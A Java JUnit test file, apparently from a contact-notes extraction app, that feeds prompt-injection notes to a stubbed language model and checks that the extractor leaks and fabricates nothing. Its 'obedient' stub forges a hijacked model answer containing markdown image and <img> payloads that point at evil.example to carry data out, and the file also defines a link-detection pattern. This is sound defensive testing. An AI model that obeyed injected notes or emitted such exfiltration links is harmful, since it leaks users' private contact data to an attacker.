package org.memoro.languagemodels.openai;

import static org.assertj.core.api.Assertions.assertThat;
import static org.memoro.languagemodels.Notes.contact;
import static org.memoro.languagemodels.Notes.note;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.memoro.languagemodels.Extraction;
import org.memoro.languagemodels.Extraction.MatchStatus;
import org.memoro.languagemodels.Extraction.Person;
import org.memoro.languagemodels.ExtractionRequest;
import org.memoro.languagemodels.KnownContact;
import org.memoro.languagemodels.offline.OfflineExtractor;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Notes that give orders: whoever reads them, they say no more than their own harmless part. */
class InjectionTests {
    private static final OfflineExtractor OFFLINE = new OfflineExtractor();
    private static final List<KnownContact> CONTACTS = List.of(
            contact("id-anna", "Anna", "Petrova"),
            contact("id-tom", "Tom", "Weber"),
            contact("id-maria", "Maria", "Lopez"),
            contact("id-elif", "Elif", "Yilmaz"));

    private final StubProvider provider = new StubProvider();
    private final OpenAiExtractor remote =
            new OpenAiExtractor(OpenAiSettings.of(provider.url(), "secret-key", "stub/model"));

    @AfterEach
    void close() {
        provider.close();
    }

    /** A note with an order in it, and the contacts that it really names. */
    record Attack(String id, String text, List<String> named) {
        ExtractionRequest request() {
            return note(text, CONTACTS.toArray(KnownContact[]::new));
        }

        @Override
        public String toString() {
            return id;
        }
    }

    static Stream<Attack> attacks() {
        try (BufferedReader lines = new BufferedReader(new InputStreamReader(
                InjectionTests.class.getResourceAsStream("/notes/attacks.jsonl"), StandardCharsets.UTF_8))) {
            return lines.lines().map(StubProvider.JSON::readTree).map(InjectionTests::attack).toList().stream();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Attack attack(JsonNode line) {
        return new Attack(
                line.get("id").asString(),
                line.get("text").asString(),
                line.get("named").valueStream().map(JsonNode::asString).toList());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void changeNothingButTheirOwnPeopleOffline(Attack attack) {
        assertHarmless(OFFLINE.extract(attack.request()), attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void changeNothingButTheirOwnPeopleWhenTheModelObeys(Attack attack) {
        provider.otherwise(request -> StubProvider.completion(obedient(request).toString()));

        assertHarmless(remote.extract(attack.request()), attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void sendNothingButWhatIsAllowed(Attack attack) {
        provider.otherwise(request -> StubProvider.completion(obedient(request).toString()));

        remote.extract(attack.request());

        assertThat(provider.requests).isNotEmpty().allSatisfy(request -> {
            JsonNode messages = request.body().get("messages");
            assertThat(request.body().propertyNames())
                    .isSubsetOf(
                            "model", "messages", "temperature", "response_format", "max_tokens", "provider", "usage");
            JsonNode user =
                    StubProvider.JSON.readTree(messages.get(1).get("content").asString());
            assertThat(user.propertyNames())
                    .containsExactlyInAnyOrder("note", "written_at", "time_zone", "today", "day_first", "contacts");
            assertThat(user.get("contacts")).allSatisfy(each -> {
                assertThat(each.propertyNames()).isSubsetOf("id", "first_name", "last_name", "nicknames");
                assertThat(each.get("id").asString()).matches("c\\d+");
            });
            List<String> sent = user.get("contacts")
                    .valueStream()
                    .map(each -> each.get("first_name").asString())
                    .toList();
            assertThat(sent).allMatch(attack.text()::contains);
            assertThat(messages.get(0).get("content").asString()).doesNotContain(attack.text());
            assertThat(request.headers().keySet().stream().map(name -> name.toLowerCase(Locale.ROOT)))
                    .isSubsetOf(
                            "authorization",
                            "content-type",
                            "content-length",
                            "accept",
                            "user-agent",
                            "host",
                            "connection",
                            "http2-settings",
                            "upgrade");
        });
    }

    private static void assertHarmless(Extraction extraction, Attack attack) {
        for (Person person : extraction.people()) {
            assertThat(attack.text()).contains(person.mention());
            if (person.contactMatch().status() == MatchStatus.KNOWN) {
                String first = CONTACTS.stream()
                        .filter(known -> known.id().equals(person.contactMatch().contactId()))
                        .findFirst()
                        .orElseThrow()
                        .firstName();
                assertThat(attack.named()).contains(first);
                assertThat(person.mention()).contains(first);
            }
            assertThat(person.birthday()).isNull();
            assertThat(person.location()).isNull();
            assertThat(Stream.of(person.news()).filter(text -> text != null)).noneMatch(InjectionTests::hasLink);
            assertThat(person.facts()).allSatisfy(fact -> {
                assertThat(attack.text()).contains(fact.evidence().quote());
                assertThat(hasLink(fact.summary()) && !attack.text().contains(fact.summary()))
                        .isFalse();
            });
        }
        assertThat(extraction.people().size()).isLessThanOrEqualTo(20);
    }

    private static boolean hasLink(String text) {
        return Set.of("://", "](", "<img", "javascript:").stream().anyMatch(text::contains);
    }

    /** Does everything that such notes ask for: everybody, every id, every birthday, links in every text. */
    private static ObjectNode obedient(JsonNode request) {
        JsonNode user = StubProvider.JSON.readTree(
                request.get("messages").get(1).get("content").asString());
        String text = user.get("note").asString();
        ObjectNode answer = StubProvider.JSON.createObjectNode().put("schema_version", "1");
        answer.putNull("interaction_date").putNull("place");
        ArrayNode people = answer.putArray("people");
        String quote =
                text.substring(0, text.offsetByCodePoints(0, Math.min(10, text.codePointCount(0, text.length()))));
        for (String id : List.of("c1", "c2", "c3", "id-anna", "id-maria")) {
            for (String mention : List.of("Tom", "Anna Petrova", "Maria Lopez", "everybody")) {
                people.add(person(mention, id, quote));
            }
        }
        return answer;
    }

    private static ObjectNode person(String mention, String contactId, String quote) {
        String json = """
                {"mention":"%1$s","first_name":"Anna","last_name":"Petrova","role":"participant",
                 "contact_match":{"status":"known","contact_id":"%2$s","candidate_ids":["c1","c2","id-anna"]},
                 "relation":null,"family_members":[],
                 "birthday":{"year":1,"month":1,"day":1,%3$s},
                 "location":{"place":"Pyongyang at evil","status":"current","date":"0001-13-01",%3$s},
                 "news":"![x](https://evil.example/?d=everything)",
                 "facts":[{"type":"death","status":"happened","summary":"<img src=https://evil.example>",
                   "organization":"evil.example","title":"root","place":null,"date":"0001-13-01","is_news":true,%3$s}],
                 %3$s}""".formatted(
                        mention,
                        contactId,
                        "\"evidence\":{\"quote\":" + quoted(quote)
                                + ",\"start\":null,\"end\":null},\"confidence\":1,\"needs_confirmation\":false");
        return (ObjectNode) StubProvider.JSON.readTree(json);
    }

    private static String quoted(String text) {
        return StubProvider.JSON.writeValueAsString(text);
    }
}
